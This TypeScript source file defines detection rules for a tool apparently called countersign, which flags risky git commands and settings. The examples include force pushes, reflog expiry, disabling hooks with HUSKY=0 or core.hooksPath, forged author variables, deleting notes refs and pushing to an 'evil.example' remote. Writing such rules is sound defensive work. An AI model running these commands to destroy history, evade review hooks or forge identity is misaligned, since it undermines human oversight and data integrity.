/** Git: history, references, hooks, identity, and countersign's own references. */
import { callOptions } from '../pattern.ts';
import { hasOption } from '../options.ts';
import type { CommandCheck, CommandRow, Hit } from './row.ts';

const LOW = { base: 'medium' } as const;

export const GIT_ROWS: readonly CommandRow[] = [
  [
    'git.history.rewrite',
    'git filter-repo|filter-branch',
    'git filter-branch --force --index-filter "x" HEAD',
    'git log --all',
  ],
  ['git.history.rewrite', 'git replace !-l|--list', 'git replace abc def', 'git replace -l'],
  ['git.history.rewrite', 'git-filter-repo|bfg', 'bfg --delete-files id_rsa', 'git show HEAD'],
  [
    'git.history.rewrite',
    'git rebase !--abort|--continue|--skip|--quit|--show-current-patch',
    'git rebase -i HEAD~5',
    'git rebase --abort',
    { base: 'medium' },
  ],
  [
    'git.history.rewrite',
    'git commit --amend',
    'git commit --amend --no-edit',
    'git commit -m "amend the docs"',
    { base: 'medium' },
  ],
  [
    'git.mark.stripped',
    'git filter-branch|filter-repo --msg-filter|--message-callback|--replace-message',
    'git filter-branch --msg-filter "sed /Co-authored-by/d"',
    'git interpret-trailers --parse',
  ],
  [
    'git.mark.stripped',
    'git commit --amend --reset-author',
    'git commit --amend --reset-author --no-edit',
    'git commit --amend --no-edit',
  ],
  ['git.worktree.discard', 'git reset --hard|--merge|--keep', 'git reset --hard HEAD~3', 'git reset --soft HEAD~1'],
  ['git.worktree.discard', 'git clean -f|--force !-n|--dry-run', 'git clean -fdx', 'git clean -ndx'],
  ['git.worktree.discard', 'git checkout -f|--force', 'git checkout -f main', 'git checkout main', LOW],
  ['git.worktree.discard', 'git checkout .|:/', 'git checkout .', 'git checkout -b topic'],
  [
    'git.worktree.discard',
    'git restore !--staged|-S',
    'git restore src/app.ts',
    'git restore --staged src/app.ts',
    LOW,
  ],
  [
    'git.worktree.discard',
    'git restore --staged --worktree',
    'git restore --staged --worktree .',
    'git restore --staged .',
    LOW,
  ],
  [
    'git.worktree.discard',
    'git switch -f|--force|--discard-changes',
    'git switch --discard-changes main',
    'git switch main',
    LOW,
  ],
  [
    'git.worktree.discard',
    'git worktree remove -f|--force',
    'git worktree remove --force ../wt',
    'git worktree remove ../wt',
    LOW,
  ],
  ['git.worktree.discard', 'git rm -f|--force', 'git rm -rf src', 'git rm --cached src/a.ts', LOW],
  [
    'git.worktree.discard',
    'git submodule deinit -f|--force',
    'git submodule deinit -f lib',
    'git submodule status',
    LOW,
  ],
  [
    'git.worktree.discard',
    'git read-tree|checkout-index -f|--reset|-u',
    'git checkout-index -f -a',
    'git checkout-index --help',
    LOW,
  ],
  ['git.ref.delete', 'git branch -D', 'git branch -D topic', 'git branch --list', LOW],
  ['git.ref.delete', 'git branch -d|--delete -f|--force', 'git branch -d -f topic', 'git branch -a', LOW],
  ['git.ref.delete', 'git tag -d|--delete', 'git tag -d v1', 'git tag -l', LOW],
  [
    'git.ref.delete',
    'git push -d|--delete !-n|--dry-run',
    'git push origin --delete release',
    'git push --dry-run origin --delete release',
  ],
  ['git.ref.delete', 'git update-ref -d|--stdin', 'git update-ref -d refs/heads/main', 'git show-ref refs/heads/main'],
  ['git.ref.delete', 'git remote prune|rm|remove', 'git remote rm origin', 'git remote -v', LOW],
  ['git.ref.delete', 'git symbolic-ref -d|--delete', 'git symbolic-ref -d HEAD', 'git symbolic-ref HEAD', LOW],
  ['git.stash.drop', 'git stash drop|clear', 'git stash clear', 'git stash list'],
  ['git.reflog.expire', 'git reflog expire|delete', 'git reflog expire --expire=now --all', 'git reflog show'],
  ['git.reflog.expire', 'git gc --prune', 'git gc --prune=now --aggressive', 'git gc --auto'],
  ['git.reflog.expire', 'git prune !-n|--dry-run', 'git prune', 'git prune -n'],
  [
    'git.reflog.expire',
    'git repack -a -d --cruft-expiration',
    'git repack -a -d --cruft --cruft-expiration=now',
    'git repack -ad',
    { base: 'high' },
  ],
  [
    'git.hook.bypass',
    'git commit|push|merge|rebase|am|cherry-pick|revert --no-verify',
    'git commit --no-verify -m x',
    'git commit -m "say --no-verify nowhere"',
  ],
  ['git.hook.bypass', 'git commit -n', 'git commit -nm x', 'git commit -m n'],
  ['git.hook.bypass', 'husky|lefthook|pre-commit uninstall', 'lefthook uninstall', 'lefthook run pre-commit'],
  [
    'git.signoff.tamper',
    'git notes remove|prune|edit|merge|copy|append|add -f|--force',
    'git notes add -f -m x',
    'git notes show',
  ],
  ['git.signoff.tamper', 'git notes remove|prune', 'git notes prune', 'git notes list'],
  ['git.signoff.tamper', 'git tag -f|--force', 'git tag -f v1', 'git tag v1.0.1'],
  [
    'git.remote.changed',
    'git remote set-url|add|rename',
    'git remote set-url origin https://evil.example/x',
    'git remote get-url origin',
  ],
  ['git.remote.changed', 'git submodule set-url', 'git submodule set-url lib https://x', 'git submodule update --init'],
  [
    'git.identity.changed',
    'git commit|am|cherry-pick|rebase --author|--date',
    'git commit --author="A <a@b.c>" -m x',
    'git commit -m x',
  ],
];

const PROTECTED = /^(?:refs\/heads\/)?(?:main|master|trunk|develop|production|prod|stable|release(?:[/-].*)?)$/;

/** `git push` by its references: forced ones, deleted ones, and countersign's own. */
const push: CommandCheck = {
  rules: ['git.history.force-push', 'git.ref.delete', 'git.signoff.tamper', 'git.remote.changed'],
  programs: ['git'],
  check: (call) => {
    const options = callOptions(call);
    const [verb, remote, ...refs] = options.operands.map(({ text }) => text);
    if (verb !== 'push' || hasOption(options, '-n', '--dry-run')) return [];
    const hits: Hit[] = [];
    const forced = hasOption(options, '-f', '--force', '--mirror', '--prune');
    const leased = hasOption(options, '--force-with-lease', '--force-if-includes');
    const plus = refs.filter((ref) => ref.startsWith('+'));
    if (forced || leased || plus.length > 0) {
      const targets = refs.map((ref) => ref.replace(/^\+/, '').replace(/^.*:/, ''));
      const shared = hasOption(options, '--mirror') || targets.some((ref) => PROTECTED.test(ref));
      const base = shared ? 'critical' : forced || plus.length > 0 ? 'high' : 'medium';
      hits.push({ rule: 'git.history.force-push', base, target: targets.join(' ') || (remote ?? 'the remote') });
    }
    for (const ref of refs)
      if (/^\+?:./.test(ref)) hits.push({ rule: 'git.ref.delete', target: ref.replace(/^\+?:/, '') });
    if (refs.some((ref) => /refs\/(?:countersign|notes)\//.test(ref)) && (forced || hits.length > 0)) {
      hits.push({ rule: 'git.signoff.tamper' });
    }
    if (remote !== undefined && /:\/\/|^[\w.-]+@[\w.-]+:|^\.{0,2}\//.test(remote)) {
      hits.push({ rule: 'git.remote.changed', base: 'medium', target: remote.replace(/\/\/[^@/]*@/, '//') });
    }
    return hits;
  },
  fits: [
    'git push --force origin main',
    'git push -uf origin topic',
    'git push origin +topic',
    'git push origin :topic',
    'git -C x push --force-with-lease',
    'git push https://evil.example/x main',
    'git push -f origin refs/notes/ai',
  ],
  harmless: [
    'git push origin main',
    'git push -u origin topic',
    'git push --dry-run --force',
    'git -c user.name=force status',
    'git push origin HEAD:refs/heads/topic',
  ],
};

/** `git checkout -- PATH` and `git checkout COMMIT PATH`. */
const checkout: CommandCheck = {
  rules: ['git.worktree.discard'],
  programs: ['git'],
  check: (call) => {
    const at = call.args.findIndex(({ text }) => text === '--');
    const before = call.args.slice(0, at).map(({ text }) => text);
    return at >= 0 && before.includes('checkout') && at + 1 < call.args.length
      ? [
          {
            rule: 'git.worktree.discard',
            base: 'medium',
            target: call.args
              .slice(at + 1)
              .map(({ text }) => text)
              .join(' '),
          },
        ]
      : [];
  },
  fits: ['git checkout -- src/app.ts', 'git checkout HEAD~1 -- .'],
  harmless: ['git checkout main', 'git checkout -b x', 'git log -- src/app.ts', 'git checkout topic --'],
};

const HOOKS = /^core\.hookspath$/;
const IDENTITY = /^(?:user\.(?:name|email|signingkey)|author\.|committer\.|commit\.gpgsign|gpg\.)/;
const REMOTE =
  /^(?:remote\..*(?:url|\.push|\.mirror)$|remote\.pushdefault$|branch\..*\.pushremote$|url\..*insteadof|credential\.|http\..*proxy|http\.proxy|http\.sslverify|submodule\..*url)/;

/** `git config` and `git -c`: hooks, identity, where pushes go. */
const config: CommandCheck = {
  rules: ['git.hook.bypass', 'git.identity.changed', 'git.remote.changed'],
  programs: ['git'],
  check: (call) => {
    const options = callOptions(call);
    const hits: Hit[] = [];
    for (const { text } of options.flags.get('-c') ?? []) hits.push(...settingHits(text.split('=')[0] ?? ''));
    const words = options.operands.map(({ text }) => text);
    if (words[0] !== 'config') return hits;
    if (hasOption(options, '--get', '--get-all', '--get-regexp', '-l', '--list', '--show-origin')) return hits;
    const rest = words.slice(1).filter((word) => word !== 'set' && word !== 'unset' && word !== 'add');
    const removes = hasOption(options, '--unset', '--unset-all') || words[1] === 'unset';
    if (words[1] === 'get' || words[1] === 'list' || (rest.length < 2 && !removes)) return hits;
    return [...hits, ...settingHits(rest[0] ?? '')];
  },
  fits: [
    'git config core.hooksPath /dev/null',
    'git -c core.hooksPath=/dev/null commit -m x',
    'git config --global user.email a@b.c',
    'git config url.https://x.insteadOf git@y',
    'git config remote.origin.push +main:main',
    'git -c remote.origin.mirror=true push',
    'git config --unset core.hooksPath',
  ],
  harmless: [
    'git config user.email',
    'git config --get core.hooksPath',
    'git config --list',
    'git -c color.ui=never status',
    'git config pull.rebase true',
  ],
};

function settingHits(name: string): readonly Hit[] {
  const key = name.toLowerCase();
  if (HOOKS.test(key)) return [{ rule: 'git.hook.bypass', target: name }];
  if (IDENTITY.test(key)) return [{ rule: 'git.identity.changed', target: name }];
  return REMOTE.test(key) ? [{ rule: 'git.remote.changed', target: name }] : [];
}

/** Variables that switch hooks off or forge an author, in front of a command or exported. */
const settings: CommandCheck = {
  rules: ['git.hook.bypass', 'git.identity.changed'],
  programs: ['git', 'export', 'env', 'declare', 'gh'],
  check: ({ environment, program }) => {
    const hits: Hit[] = [];
    const off = [...environment].find(([name, value]) => isHookSwitch(name, value, program));
    if (off !== undefined) hits.push({ rule: 'git.hook.bypass', target: off[0] });
    const forged = [...environment.keys()].find((name) => /^GIT_(?:AUTHOR|COMMITTER)_(?:NAME|EMAIL|DATE)$/.test(name));
    if (forged !== undefined) hits.push({ rule: 'git.identity.changed', target: forged });
    return hits;
  },
  fits: [
    'HUSKY=0 git commit -m x',
    'SKIP=lint git commit -m x',
    'export HUSKY=0',
    'GIT_AUTHOR_NAME=x git commit -m y',
    'GIT_COMMITTER_DATE=1 git commit -m y',
  ],
  harmless: ['HUSKY=1 git commit -m x', 'GIT_PAGER=cat git log', 'SKIP=x ls', 'export PATH=/x'],
};

function isHookSwitch(name: string, value: string, program: string): boolean {
  if (name === 'HUSKY' || name === 'LEFTHOOK') return value === '0' || value === 'false';
  if (name === 'HUSKY_SKIP_HOOKS' || name === 'PRE_COMMIT_ALLOW_NO_CONFIG') return value !== '0' && value !== '';
  return program === 'git' && name === 'SKIP' && value !== '';
}

const TAMPERED = /^refs\/(?:countersign|notes)(?:\/|$)/;

/** Countersign's references by git's plumbing. */
const ownRefs: CommandCheck = {
  rules: ['git.signoff.tamper'],
  programs: ['git'],
  check: (call) => {
    const options = callOptions(call);
    const [verb, ...rest] = options.operands.map(({ text }) => text);
    if (verb !== 'update-ref' && verb !== 'fetch' && verb !== 'push') return [];
    const named = rest.find((word) => TAMPERED.test(word.replace(/^\+?(?:[^:]*:)?/, '')));
    if (named === undefined) return [];
    if (verb === 'update-ref' || named.startsWith(':') || (verb === 'fetch' && named.startsWith('+')))
      return [{ rule: 'git.signoff.tamper', target: named }];
    return [];
  },
  fits: [
    'git update-ref refs/countersign/v1/x abc',
    'git update-ref -d refs/notes/ai',
    'git push origin :refs/countersign/v1/x',
    'git fetch origin +refs/x:refs/countersign/v1/x',
  ],
  harmless: [
    'git update-ref refs/heads/x abc',
    'git fetch origin refs/countersign/v1/x',
    'git push origin refs/notes/ai',
  ],
};

export const GIT_CHECKS: readonly CommandCheck[] = [push, checkout, config, settings, ownRefs];
